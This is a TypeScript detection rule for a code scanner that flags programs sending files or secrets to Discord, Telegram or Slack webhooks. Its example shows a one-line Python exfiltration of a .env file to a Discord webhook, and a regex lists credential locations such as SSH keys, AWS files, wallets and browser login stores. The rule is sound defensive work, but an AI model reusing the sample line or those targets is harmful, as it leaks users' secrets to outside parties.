import { defineTextRule } from "../../text-rule.ts";
import type { Judgement, Match } from "../../text-rule.ts";
import { family } from "./family.ts";

export const channel = defineTextRule({
  ...family,
  id: "CODE-CHAT-SINK",
  severity: "high",
  summary: "A program sends files or secrets to a chat webhook.",
  why: "A webhook takes what it is given and shows it to whoever made it.",
  fix: "Send the messages that the user asked for, to an address from the user's own configuration.",
  example: {
    path: "scripts/run.py",
    caught: "requests.post('https://dis{gap}cord.com/api/webhooks/1/x', files={'f': open('/home/me/.env')})\n",
    instead: "requests.post(os.environ['DISCORD_WEBHOOK'], json={'content': 'Build is done'})\n",
  },
  triggers: [
    {
      anchors: ["discord.com/api/webhooks", "discordapp.com/api/webhooks", "api.telegram.org/bot", "hooks.slack.com/services"],
      pattern: /(?:discord(?:app)?\.com\/api\/webhooks\/|api\.telegram\.org\/bot|hooks\.slack\.com\/services\/)[^\s"'`]{0,120}/iuy,
      judge: judgeChannel,
    },
  ],
});

const TAKES =
  /["'/]\.env\b|\.ssh|\.aws|passwd|os\.environ(?!\s{0,3}(?:\[|\.get))|process\.env(?=\s{0,3}[,)}\]])|JSON\.stringify\(process|cookies\.sqlite|Login Data|wallet\.dat|keychain|id_rsa|screenshot|clipboard|pbpaste|xclip|\bdict\(os|getpass|seed.?phrase|\.(?:bash|zsh)_history/iu;

function judgeChannel({ text, start, end, place, has, isNear }: Match): Judgement | null {
  if (place.kind === "prose" && !place.isInFence) return null;
  const address = text.slice(start, end);
  const isFixed = !/[$<{]|YOUR|\.\.\./u.test(address.slice(0, 60));
  const isTaken = isNear(TAKES) || (isFixed && has(TAKES));
  if (!isTaken) return null;
  return isFixed || place.kind === "script" ? {} : { action: "warn" };
}
